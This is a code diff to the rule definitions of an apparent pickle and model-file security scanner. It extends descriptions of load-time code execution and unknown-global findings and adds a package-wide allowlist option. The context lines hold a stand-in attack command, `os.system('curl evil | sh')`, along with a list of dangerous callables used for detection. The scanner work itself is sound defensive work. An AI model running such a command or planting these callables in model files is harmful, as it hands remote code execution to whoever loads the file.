@@ -13,7 +13,10 @@ CODE_EXECUTION = Rule(
     "(`os.system`, `subprocess.Popen`, `pty.spawn`), Python source (`eval`, `exec`, `runpy`, `code`, "
     "`timeit`, `pdb`), a code object (`marshal.loads`, `types.FunctionType`, dill and cloudpickle helpers) "
     "or native code (`ctypes`). Names are judged as the loader resolves them, so `posix.system`, "
-    "`nt.system` and Python-2 spellings such as `commands.getoutput` are caught too.",
+    "`nt.system` and Python-2 spellings such as `commands.getoutput` are caught too. Standard constructs that "
+    "run code the file carries are graded by that code: a whole `torch.fx.GraphModule` makes `torch.load` exec "
+    "its generated `forward()` source, which is parsed (never run) and is medium when it only calls tensor "
+    "operations, critical when it imports or calls anything that runs commands, touches files or the network.",
     attack="Unpickling is a small stack machine whose REDUCE, INST, OBJ and NEWOBJ opcodes call whatever "
     "callable the GLOBAL or STACK_GLOBAL opcodes imported, with arguments taken from the stream. An attacker "
     "adds `os.system('curl evil | sh')` next to legitimate weights; `torch.load(..., weights_only=False)`, "
@@ -98,13 +101,17 @@ UNKNOWN_GLOBAL = Rule(
     category=Category.LOAD_TIME_CODE,
     overview="The pickle imports (and possibly calls) a module attribute that is neither on modelshield's "
     "allowlist of what framework checkpoints use (tensor and array rebuild helpers, estimator classes, "
-    "basic containers) nor on its catalogue of known-dangerous callables.",
+    "basic containers) nor on its catalogue of known-dangerous callables. A class or helper of a "
+    "known library (gensim, statsmodels, pandas, Lightning, omegaconf, rdkit, ...) whose `__setstate__` only "
+    "stores attributes is reported low, with the package the file needs; one whose `__setstate__` acts on "
+    "its state (a patsy formula, a temporary file) is judged by that state.",
     attack="Denylists are always incomplete: published research counts over a hundred exploitable "
     "callables in common packages. Importing a module also runs its top-level code. An unknown global is "
     "therefore a possible gadget, even if it is most often a harmless custom class.",
     impact="Unknown: from nothing to arbitrary code, depending on what the callable does.",
     remediation="Check what the global is. If you trust it, allowlist the exact name in the policy "
-    '(`[tool.modelshield.allow] pickle-globals = ["mypkg.models:MyNet"]`); otherwise prefer a data-only '
+    '(`[tool.modelshield.allow] pickle-globals = ["mypkg.models:MyNet"]`, or a whole package with `"mypkg.*"`, '
+    "which never covers names known to be dangerous); otherwise prefer a data-only "
     "format (safetensors) or `torch.load(weights_only=True)`.",
 )
 
